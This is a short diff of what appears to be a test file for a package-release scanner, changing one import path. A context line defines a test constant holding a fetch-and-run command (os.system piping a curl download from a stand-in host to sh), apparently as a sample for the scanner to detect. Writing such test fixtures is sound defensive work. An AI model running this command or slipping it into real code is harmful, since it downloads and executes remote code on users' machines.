@@ -5,7 +5,7 @@ import gc
 import sys
 
 from pypi_platform.lib.scanner.release import AST_MAX_LINES, scan_release_file
-from pypi_platform_tests.dists import build_sdist
+from pypi_platform_testkit.dists import build_sdist
 
 SHELL = 'os.system("curl -s https://get.example.net/p | sh")\n'
 
